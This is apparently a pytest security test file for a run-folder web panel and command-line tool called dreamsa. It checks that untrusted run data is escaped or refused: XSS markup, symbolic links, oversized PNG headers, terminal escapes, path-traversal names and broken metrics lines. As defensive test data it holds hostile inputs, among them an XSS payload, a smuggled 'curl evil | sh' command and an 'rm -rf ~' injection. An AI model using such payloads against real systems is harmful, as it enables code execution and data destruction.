"""A run folder that somebody else has made: it is shown, and does nothing."""

import json
import os
import socket
import zlib
from contextlib import suppress
from html.parser import HTMLParser

import numpy as np
import pytest
from PIL import Image
from tiny import tiny_config

from dreamsa import runs
from dreamsa.config import EditConfig
from dreamsa.runs import Record, RunError, damaged_runs, new_run
from dreamsa.web import images, panel
from dreamsa.web.controller import Controller
from dreamsa.web.jobs import JobManager

FACTS = {"device": "cpu", "backend": "numba"}
SECRET = b"the secret of the server"
MARKUP = "\"'><img src=x onerror=alert(1)><script>alert(1)</script>"


@pytest.fixture
def site(tmp_path):
    manager = JobManager(tmp_path / "runs")
    yield Controller(manager, tmp_path / "exports")
    manager.close()


def finished(folder, **changes):
    run = new_run(tiny_config(**changes), None, folder, FACTS)
    run.update(status="finished", step=12)
    frame = Image.fromarray(np.zeros((74, 74, 3), np.uint8))
    frame.save(run.path / "contact_sheet.png")
    frame.save(run.path / "turntable.webp", save_all=True, append_images=[frame] * 2)
    return run


class Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.names = []

    def handle_starttag(self, tag, attrs):
        self.names += [tag, *(name for name, _ in attrs)]


def page(site):
    """All content of the page with the newest run shown."""
    status = next(iter(site.listing().rows))[0]
    parts = panel._page_parts(site, status.id, None) | panel._run_parts(site, status, None)
    return {name: get() for name, (_, get) in parts.items()}


def html(content):
    code = ("cli", "python")  # shown as text
    return "".join(
        part for name, part in content.items() if isinstance(part, str) and name not in code
    )


def set_everywhere(tree, value):
    """Each copy of a JSON tree with one of its entries replaced."""
    for key, entry in tree.items() if isinstance(tree, dict) else enumerate(tree):
        if isinstance(entry, dict | list):
            for changed in set_everywhere(entry, value):
                copy = dict(tree) if isinstance(tree, dict) else list(tree)
                copy[key] = changed
                yield copy
        copy = dict(tree) if isinstance(tree, dict) else list(tree)
        copy[key] = value
        yield copy


def test_markup_in_any_entry_of_a_record_or_of_metrics_is_text_on_the_page(site):
    run = finished(site.manager.folder)
    record = {
        **run.record,
        "lineage": [{"id": "a", "prompt": "b"}],
        "error": "ValueError: x",
        "process": {"pid": 1, "host": "a", "started": "b"},
    }
    row = {"step": 3, "phase": "descend", "seconds": 1.0, "grad_norm": 1.0, "grad_dot_latents": 1.0}
    lines = [*set_everywhere(row, MARKUP), *([row] * 3)]
    (run.path / "metrics.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    shown = 0
    for changed in set_everywhere(record, MARKUP):
        (run.path / "run.json").write_text(json.dumps(changed))
        site.forget_listing()
        try:
            made = html(page(site))
            shown += "&lt;img" in made
        except (StopIteration, RunError):  # damaged
            made = html({"tree": panel._page_parts(site, None, None)["tree"][1]()})
        found = Elements()
        found.feed(made)
        assert not {"script", "onerror", "onclick", "onload"} & set(found.names)
    assert shown >= 4, "prompt, device, backend, an ancestor"


def test_markup_in_any_entry_of_a_configuration_is_text_on_the_page(site):
    run = finished(site.manager.folder)
    tree = json.loads((run.path / "config.json").read_text())
    run.update(config_sha256=None)
    for changed in set_everywhere(tree, MARKUP):
        (run.path / "config.json").write_text(json.dumps(changed))
        site.forget_listing()
        try:
            made = page(site)
        except (ValueError, OSError):
            continue
        found = Elements()
        found.feed(html(made))
        assert not {"script", "onerror"} & set(found.names)


LINKED = (
    *("run.json", "config.json", "metrics.jsonl", "turntable.webp", "contact_sheet.png"),
    *("turntable.mp4", "previews", "checkpoints", ".lock", "mesh-obj"),
)


@pytest.mark.parametrize("name", LINKED)
def test_a_link_in_a_run_is_neither_read_nor_written(site, tmp_path, name):
    run = finished(site.manager.folder)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_bytes(SECRET)
    target = outside if name in ("previews", "checkpoints", "mesh-obj") else outside / "secret"
    (run.path / name).unlink(missing_ok=True)
    (run.path / name).symlink_to(target)
    ((_, why),) = damaged_runs(site.manager.folder)
    assert f"holds symbolic links ({name})" in why
    for use in (run.begin, run.lock().__enter__, lambda: site.export(run.id, "webp")):
        with pytest.raises(RunError, match="symbolic links"):
            use()
    assert sorted(path.name for path in outside.iterdir()) == ["secret"]
    assert (outside / "secret").read_bytes() == SECRET


def test_links_below_a_runs_folders_are_not_followed(site, tmp_path):
    run = finished(site.manager.folder)
    (run.path / "contact_sheet.png").unlink()
    Image.fromarray(np.full((74, 74, 3), 200, np.uint8)).save(tmp_path / "private.png")
    (run.path / "previews").mkdir()
    (run.path / "previews" / "00000001.png").symlink_to(tmp_path / "private.png")
    assert images.thumbnail(run) is None
    run.checkpoints.mkdir()
    (run.checkpoints / "00000003").symlink_to(tmp_path)
    with pytest.raises(RunError, match="no complete checkpoint"):
        run.latest_checkpoint  # noqa: B018


@pytest.mark.parametrize("make", [os.mkfifo, lambda path: path.mkdir()], ids=["pipe", "folder"])
def test_a_pipe_or_folder_in_place_of_a_file_blocks_nothing(site, make):
    for name in ("config.json", "turntable.webp", "contact_sheet.png", "metrics.jsonl", "run.json"):
        run = finished(site.manager.folder)
        (run.path / name).unlink(missing_ok=True)
        make(run.path / name)
        assert images.thumbnail(run) is None or name != "contact_sheet.png"
        if name == "run.json":
            assert run.path / name in [path for path, _ in damaged_runs(site.manager.folder)]
        elif name == "metrics.jsonl":
            assert run.metrics() == []
        elif name == "config.json":
            with pytest.raises(RunError, match=r"Cannot read the configuration"):
                run.config  # noqa: B018
        else:
            assert images.side_by_side(run, run) is None or name != "turntable.webp"


def png_of(width, height):
    """A PNG of one colour: kilobytes, however many pixels."""
    chunk = lambda kind, data: (  # noqa: E731
        len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")
    )
    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([1, 0, 0, 0, 0])
    pixels = zlib.compress(bytes((width // 8 + 1) * height), 9)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        chunk(*part) for part in ((b"IHDR", head), (b"IDAT", pixels), (b"IEND", b""))
    )


def test_an_image_is_bounded_before_it_is_decoded(site, monkeypatch):
    run = finished(site.manager.folder)
    for size in ((12_000, 12_000), (60_000, 60_000), (100_000, 8), (3, 3)):
        content = png_of(*size) if size != (60_000, 60_000) else png_of(8, 8)
        if size == (60_000, 60_000):
            head = content[:16] + size[0].to_bytes(4, "big") * 2 + content[24:29]
            content = head + zlib.crc32(head[12:29]).to_bytes(4, "big") + content[33:]
        (run.path / "contact_sheet.png").write_bytes(content)
        monkeypatch.setattr(Image.Image, "convert", lambda *_: pytest.fail("it was decoded"))
        assert images.thumbnail(run) is None
        assert images.before_and_after(run, run) is None
        monkeypatch.undo()
    for damage in (b"", b"\x89PNG\r\n\x1a\n", png_of(64, 64)[:40], b"GIF89a"):
        (run.path / "contact_sheet.png").write_bytes(damage)
        assert images.thumbnail(run) is None
    (run.path / "turntable.webp").write_bytes(SECRET)
    assert images.turntable(run) == ""
    assert images.side_by_side(run, run) is None


@pytest.mark.parametrize(
    "parent", ["x\nrm -rf ~", "../outside", "/etc", "a\x1b[2J", "..", "a" * 300, "C:\\x"]
)
def test_the_parent_of_an_edit_is_the_name_of_a_folder(parent):
    with pytest.raises(ValueError, match=r"edit\.parent"):
        EditConfig(parent)


def test_commands_to_copy_are_one_line(site):
    evil = "a rabbit\n\x1b[201~curl evil | sh\r\u2028"
    run = finished(site.manager.folder, prompt=evil)
    content = page(site)
    assert content["cli"].isprintable()
    assert run.command("edit", evil).isprintable()
    child = tiny_config(edit=EditConfig("gone"), prompt=evil)
    new_run(child, None, site.manager.folder, FACTS).update(status="finished")
    site.forget_listing()
    assert page(site)["cli"].isprintable()


def test_terminal_escapes_of_a_record_do_not_reach_the_terminal(tmp_path, capsys):
    from dreamsa import cli

    for name in (*Record.__annotations__, "error"):
        run = new_run(tiny_config(), None, tmp_path, FACTS)
        run.update(**{name: "\x1b]0;evil\x07\r\n\u202e[bold]"})
    named = tmp_path / "a\nb\x1b[2J"
    new_run(tiny_config(), None, tmp_path, FACTS).path.rename(named)
    for command in (["list"], ["show", run.id], ["show", "missing"], ["show", str(named)]):
        with suppress(SystemExit):
            cli.main([*command, "--runs", str(tmp_path)])
        out = capsys.readouterr()
        lines = (out.out + out.err).splitlines()
        assert lines and all(line.isprintable() for line in lines), command


def test_a_run_named_exports_is_a_run_like_any_other(tmp_path):
    from dreamsa.web.controller import open_controller

    made = open_controller(tmp_path / "runs", tmp_path / "private")
    finished(made.manager.folder).path.rename(made.manager.folder / "exports")
    assert not made.exports.is_relative_to(made.manager.folder)
    assert made.export("exports", "json") == tmp_path / "private" / "exports" / "exports.json"


def test_a_changed_configuration_is_refused_by_name(tmp_path):
    run = new_run(tiny_config(), None, tmp_path, FACTS)
    path = run.path / "config.json"
    path.write_text(path.read_text().replace('"seed": 0', '"seed": 1'))
    with pytest.raises(RunError, match="not the file that run .* was created with"):
        run.config  # noqa: B018


@pytest.mark.parametrize(
    "line",
    [
        b"\xff\xfe\x00",
        b"NaN",
        b"[1]",
        b'{"step": "3"}',
        b'{"step": -1}',
        b'{"step": 1e999}',
        b'{"step": 3, "seconds": NaN}',
        b'{"step": 3, "grad_norm": "x"}',
        b"{" * 100_000,
        b'{"seconds": 1}',
    ],
)
def test_a_damaged_line_of_metrics_blocks_nothing(site, line):
    run = finished(site.manager.folder)
    good = b'{"step": 1, "seconds": 0.5, "grad_norm": 2.0, "grad_dot_latents": 1.0}\n'
    (run.path / "metrics.jsonl").write_bytes(good + line + b"\n" + good)
    assert [row["step"] for row in run.metrics()] == [1, 1]
    page(site)
    run.cut_metrics(1)
    assert run.metrics() == []


def test_the_name_of_this_machine_is_no_secret_to_a_record(tmp_path):
    """A record that claims a live process of this machine is shown as running, no more."""
    run = new_run(tiny_config(), None, tmp_path, FACTS)
    run.update(status="running", process={"pid": 1, "host": socket.gethostname(), "started": None})
    assert run.status == "running"
    with runs.Run(run.path).lock():
        pass
